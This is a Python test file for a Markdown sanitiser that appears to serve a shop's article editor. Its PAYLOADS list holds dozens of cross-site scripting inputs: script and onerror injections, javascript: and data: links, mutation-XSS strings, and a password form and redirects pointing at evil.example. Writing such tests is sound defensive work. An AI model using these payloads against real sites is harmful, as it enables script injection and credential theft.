"""Article text: Markdown that is safe for everybody who reads it, whoever wrote it (B4)."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.article_drafts import checked_body
from core.article_text import BRACKETS, product_names, to_html, to_plain
from core.errors import Invalid

TAGS = {
    *("p", "br", "hr", "h2", "h3", "h4", "strong", "em", "s", "ul", "ol", "li", "blockquote"),
    *("a", "img", "code", "pre", "table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTES = {"href", "rel", "title", "src", "alt", "loading", "decoding", "start", "class"}
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<object data=javascript:alert(1)><embed src=javascript:alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox)",
    "[x](//evil.example)",
    "[x](/console)",
    "[x](http://plain.example)",
    "[x](https:evil.example)",
    "[x](https://shop.example@evil.example)",
    "[x](https://shop.example\\@evil.example)",
    '[x](https://a.example "x\\" onmouseover=alert(1) y=\\"")',
    "[x](https://a.example/'onmouseover='alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](http://tracker.example/p.png)",
    "![x](mailto:a@b.example)",
    '![" onerror=alert(1) x="](https://a.example/x.png)',
    '<https://a.example/"onclick=alert(1)>',
    "<javascript:alert(1)>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "# <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "1. <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "**<b onmouseover=alert(1)>x</b>**",
    "{{product: <script>alert(1)</script>}}",
    '{{product: x"><script>alert(1)</script>}}',
    '<div data-product="0"></div>',
    '`<div data-product="0"></div>` {{product: mug}}',
    "\u202e<script>alert(1)</script>",
    "\ufeff<script\x0b>alert(1)</script>",
]


class Reader(HTMLParser):
    """What a browser would make of a text."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: dict[str, set[str]] = {}

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attrs:
            self.attributes.setdefault(name, set()).add(value or "")


def read(html: str) -> Reader:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader


def assert_is_safe(html: str) -> None:
    reader = read(html)
    assert reader.tags <= TAGS
    assert set(reader.attributes) <= ATTRIBUTES
    for address in reader.attributes.get("href", ()):
        assert re.match(r"https://[^/@]+(/|$|\?|#)|mailto:", address), address
    for address in reader.attributes.get("src", ()):
        assert address.lower().startswith("https://"), address
    assert reader.attributes.get("class", set()) <= {"center", "end"}


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "frame", ["{}", "Text {} text", "> {}\n\n# {}\n\n- {}\n", "|a|\n|-|\n|{}|"]
)
def test_B4_nothing_a_writer_types_can_run_or_lead_astray(payload: str, frame: str):
    assert_is_safe(to_html(frame.replace("{}", payload), {}, {}))


@given(st.text(alphabet=st.sampled_from("<>[]()!\"'`*_~|#-{}:/\\ \n\tabjs&;=.1@"), max_size=300))
@settings(max_examples=300)
def test_B4_no_text_makes_markup_of_its_own(body: str):
    assert_is_safe(to_html(body, {}, {}))
    to_plain(body)


def test_W13_markdown_becomes_plain_and_quiet_html():
    html = to_html(
        "# One\n\n##### Five\n\n3. three\n4. four\n\n> note\n\n~~no~~ **yes** *so* `x`\n\n"
        "[shop](https://shop.example/a?b=1#c) <mailto:hi@shop.example>\n\n"
        "![A mug](https://shop.example/mug.png)\n\n| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n\n"
        "![scheme](HTTPS://shop.example/x.png)",
        {},
        {},
    )
    assert "<h2>One</h2>" in html and "<h4>Five</h4>" in html
    assert '<ol start="3">' in html
    assert "<blockquote>\n<p>note</p>\n</blockquote>" in html
    assert "<s>no</s> <strong>yes</strong> <em>so</em> <code>x</code>" in html
    assert '<a href="https://shop.example/a?b=1#c" rel="noopener noreferrer">shop</a>' in html
    assert 'href="mailto:hi@shop.example"' in html
    assert 'alt="A mug"' in html and 'loading="lazy"' in html
    assert "<td>1</td>" in html
    assert '<td class="center">2</td>' in html and '<td class="end">3</td>' in html
    assert " id=" not in html and " style=" not in html


def test_W13_products_stand_where_they_were_named():
    own = "{{ product:gid://x/Product/1 }}"
    body = f"Take {{{{product: mug}}}} or\n\n{{{{product: mug}}}}\n{own}\n\n`{{{{product: no}}}}`"
    assert product_names(body) == ("mug", "gid://x/Product/1")
    html = to_html(body, {"mug": "<MUG>"}, {"mug": "a mug"})
    assert "<p>Take a mug or</p>" in html
    assert "<MUG>" in html
    assert "gid" not in html, "a product that is not in the catalog is left out"
    assert "<code>{{product: no}}</code>" in html
    assert len(product_names("\n\n".join(f"{{{{product: p{n}}}}}" for n in range(30)))) == 20


def test_A6_plain_text_has_the_words_without_the_marks():
    plain = to_plain(
        "# Care\n\nWash **by hand**, [here](https://x.example).\n\n- one\n- two\n\n"
        "| To | Cost |\n|-|-|\n| Oslo | €5 |\n\n```\ncode\n```\n\n{{product: mug}}\n\n![pic](https://x.example/a.png)\nend"
    )
    assert plain == "Care\nWash by hand, here.\none\ntwo\nTo · Cost\nOslo · €5\ncode\nend"


@pytest.mark.parametrize("mark", ["[", "![", "[a](", "[a]["])
def test_W13_a_text_that_would_take_seconds_to_read_is_refused(mark: str):
    with pytest.raises(Invalid) as refused:
        checked_body(mark * (BRACKETS + 1))
    assert refused.value.field == "body"
    to_html(checked_body(mark * (BRACKETS // 3)), {}, {})
